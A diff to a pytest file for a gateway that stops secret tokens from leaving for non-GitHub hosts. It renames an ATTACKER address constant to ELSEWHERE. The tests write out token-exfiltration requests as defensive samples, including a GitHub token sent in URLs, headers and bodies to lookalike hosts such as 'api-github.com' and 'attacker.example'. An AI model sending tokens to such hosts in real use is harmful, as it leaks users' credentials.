@@ -7,13 +7,14 @@ import zlib
 import pytest
 
 from gateway import body_of
-from net import ATTACKER, OTHER, POD_DH157, POD_OTHER
+from net import OTHER, POD_DH157, POD_OTHER, SECOND
 from peers import Origin
 from test_tls import connect, https
 from tlspeers import Authority, over_tls
 from wire import read_response, request, send
 
 GITHUB = OTHER
+ELSEWHERE = SECOND
 
 CONFIG = """
 sensors:
@@ -65,7 +66,7 @@ def names(gateway, resolver):
     for name in HOMES:
         resolver.names[name.lower().removesuffix(":80").rstrip(".")] = [GITHUB]
     for name in OTHERS:
-        resolver.names[name] = [ATTACKER]
+        resolver.names[name] = [ELSEWHERE]
     return resolver.names
 
 
@@ -91,8 +92,8 @@ def test_a_token_may_go_home(world, gateway, names, host, where):
 @pytest.mark.parametrize("where", ["url", "header", "body"])
 @pytest.mark.parametrize("host", OTHERS)
 def test_and_nowhere_else(world, gateway, names, host, where):
-    with Origin(world, 80, ATTACKER) as origin:
-        with send(world, carrying(TOKEN, host, where), address=ATTACKER, port=80) as sock:
+    with Origin(world, 80, ELSEWHERE) as origin:
+        with send(world, carrying(TOKEN, host, where), address=ELSEWHERE, port=80) as sock:
             status, _, problem, _ = read_response(sock)
             event = gateway.event_of(sock)
         assert status == 403 and json.loads(problem)["reason"] == "finding"
@@ -110,33 +111,33 @@ def test_a_secret_of_another_is_not_at_home_there(world, gateway, names):
 
 
 def test_monitor_tells_of_what_leaves_home(world, gateway, names):
-    with Origin(world, 80, GITHUB), Origin(world, 80, ATTACKER) as origin:
-        for host, address in [("api.github.com", GITHUB), ("api-github.com", ATTACKER)]:
+    with Origin(world, 80, GITHUB), Origin(world, 80, ELSEWHERE) as origin:
+        for host, address in [("api.github.com", GITHUB), ("api-github.com", ELSEWHERE)]:
             with send(world, carrying(TOKEN, host, "body"), address=address, port=80, source=POD_DH157) as sock:
                 assert read_response(sock)[0] == 200
                 session = gateway.session_of(sock)
-            assert bool(session["findings"]) == (address == ATTACKER)
+            assert bool(session["findings"]) == (address == ELSEWHERE)
         assert session["action"] == "alert" and session["would"] == "deny"
         assert TOKEN.encode() in origin.received
 
 
 def test_the_name_alone_opens_no_other_address(world, gateway, names):
     """Who says that an address of their own is GitHub is taken at their word: the token goes to GitHub."""
-    with Origin(world, 80, GITHUB) as github, Origin(world, 80, ATTACKER) as attacker:
-        with send(world, carrying(TOKEN, "api.github.com", "header"), address=ATTACKER, port=80) as sock:
+    with Origin(world, 80, GITHUB) as github, Origin(world, 80, ELSEWHERE) as attacker:
+        with send(world, carrying(TOKEN, "api.github.com", "header"), address=ELSEWHERE, port=80) as sock:
             assert read_response(sock)[0] == 200
         assert TOKEN.encode() in github.received
         # An address is nobody's home, nor is a name that nobody knows.
-        for host in (ATTACKER, GITHUB):
-            with send(world, carrying(TOKEN, host, "header"), address=ATTACKER, port=80) as sock:
+        for host in (ELSEWHERE, GITHUB):
+            with send(world, carrying(TOKEN, host, "header"), address=ELSEWHERE, port=80) as sock:
                 assert read_response(sock)[0] == 403
-        with send(world, carrying(TOKEN, "unknown.github.com", "header"), address=ATTACKER, port=80) as sock:
+        with send(world, carrying(TOKEN, "unknown.github.com", "header"), address=ELSEWHERE, port=80) as sock:
             assert read_response(sock)[0] != 200
         assert attacker.received == b""
 
 
 def test_what_the_request_line_names_counts(world, gateway, names):
-    with Origin(world, 80, ATTACKER) as attacker:
+    with Origin(world, 80, ELSEWHERE) as attacker:
         data = request(path=f"http://attacker.example/?token={TOKEN}", host="api.github.com")
         with send(world, data, address=GITHUB, port=80) as sock:
             assert read_response(sock)[0] in (400, 403)
@@ -148,7 +149,7 @@ def test_over_tls(world, gateway, names, outside):
     elsewhere = outside.server(outside.sign("api.github.com.evil.example", "attacker.example"))
     data = json.dumps({"token": TOKEN})
     with Origin(world, 443, GITHUB, handler=over_tls(home)) as github, \
-            Origin(world, 443, ATTACKER, handler=over_tls(elsewhere)) as attacker:
+            Origin(world, 443, ELSEWHERE, handler=over_tls(elsewhere)) as attacker:
         for version in ("--http1.1", "--http2"):
             github.forget()
             done = https(world, gateway, "https://api.github.com/user/repos", version, "-d", data)
